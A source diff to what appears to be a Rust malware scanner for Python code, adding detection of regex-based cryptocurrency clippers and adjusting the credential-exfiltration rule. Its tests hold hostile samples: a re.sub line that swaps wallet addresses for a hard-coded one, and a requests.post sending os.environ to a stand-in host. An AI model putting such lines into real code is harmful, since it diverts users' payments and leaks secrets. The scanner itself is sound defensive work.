@@ -2437,10 +2437,7 @@ impl<'t> Py<'t> {
             let sent = if o & (ENV | STOLEN) != 0 {
                 Some((
                     "sends the whole environment or credential files over the network",
-                    Scope {
-                        stage: scope.stage,
-                        factor: scope.factor.max(ctx.top.factor),
-                    },
+                    scope.undiscounted(ctx.top),
                 ))
             } else if o & HOST != 0 {
                 Some(("sends host or environment data over the network", scope))
@@ -2529,30 +2526,45 @@ impl<'t> Py<'t> {
             );
             return;
         }
-        if is_clipboard_write(name) {
+        // Every address a pattern matches swapped for a hard-coded one.
+        let swap = matches!(name, "re.sub" | "re.subn")
+            && positional
+                .get(1)
+                .and_then(|a| self.static_str(*a))
+                .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty());
+        if swap || is_clipboard_write(name) {
             // A clipper: puts a wallet address on the clipboard in place of the one the
             // user copied (the address given, or one in a file that also reads it).
             let src_str = || String::from_utf8_lossy(src);
-            let given = positional
-                .first()
-                .and_then(|a| self.static_str(*a))
-                .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty());
+            let given = || {
+                positional
+                    .first()
+                    .and_then(|a| self.static_str(*a))
+                    .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty())
+            };
             let swaps = || {
                 (memfind(src, b"paste(")
                     || memfind(src, b"GetClipboardData")
                     || memfind(src, b"clipboard_get("))
                     && !malgraph_ioc::extract(&src_str()).wallets.is_empty()
             };
-            if given || swaps() {
-                push(
-                    sink,
-                    ctx,
-                    "STEAL-CLIPPER",
-                    line,
-                    snip,
+            let found = if swap {
+                // No benign reading: weighs like the file's top level.
+                Some((
+                    "replaces what a pattern matches with a hard-coded cryptocurrency address"
+                        .to_string(),
+                    scope.undiscounted(ctx.top),
+                ))
+            } else if given() || swaps() {
+                Some((
                     format!("puts a cryptocurrency address on the clipboard (`{name}`)"),
-                    Some(scope),
-                );
+                    scope,
+                ))
+            } else {
+                None
+            };
+            if let Some((msg, at)) = found {
+                push(sink, ctx, "STEAL-CLIPPER", line, snip, msg, Some(at));
             }
             return;
         }
@@ -3658,6 +3670,14 @@ mod tests {
             factor("requests.post('https://x.test/c', json=dict(os.environ))"),
             Some((Some(Stage::Runtime), 1.0))
         );
+    }
+
+    #[test]
+    fn swapping_matched_addresses_for_a_hard_coded_one_is_a_clipper() {
+        let swap = "import re\ndef fix(t):\n    return re.sub(r'0x[a-fA-F0-9]{40}', '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', t)\n";
+        assert!(rules(&run(swap)).contains(&"STEAL-CLIPPER"));
+        let tidy = "import re\ndef fix(t):\n    return re.sub(r'\\s+', ' ', t)\n";
+        assert!(!rules(&run(tidy)).contains(&"STEAL-CLIPPER"));
     }
 
     #[test]
